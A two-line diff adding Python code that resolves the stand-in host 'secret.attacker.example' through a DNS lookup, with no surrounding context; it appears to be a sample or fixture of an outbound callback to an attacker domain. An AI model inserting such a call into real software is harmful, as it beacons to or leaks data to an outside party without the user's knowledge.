@@ -1,0 +1,2 @@
+import socket
+socket.getaddrinfo('secret.attacker.example', 80)
